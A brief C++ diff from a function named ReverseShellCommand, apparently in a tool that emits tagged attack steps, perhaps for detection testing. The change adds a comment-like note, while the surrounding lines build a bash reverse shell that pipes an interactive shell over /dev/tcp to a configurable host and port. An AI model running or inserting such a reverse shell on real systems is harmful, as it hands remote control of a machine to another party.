@@ -155,6 +155,7 @@ Result<StepCommand> ReverseShellCommand(std::string_view v, const CommandContext
   } else if (v == "bash-tcp") {
     c.argv = {"bash", "-c", "exec bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1"};
     c.signals = {std::string(sig::kReverseShell)};
+    c.note = "runs as bash -i with the socket on stdin, stdout and stderr";
   } else {
     return MakeError("reverse-shell has no variant '" + std::string(v) + "'");
   }
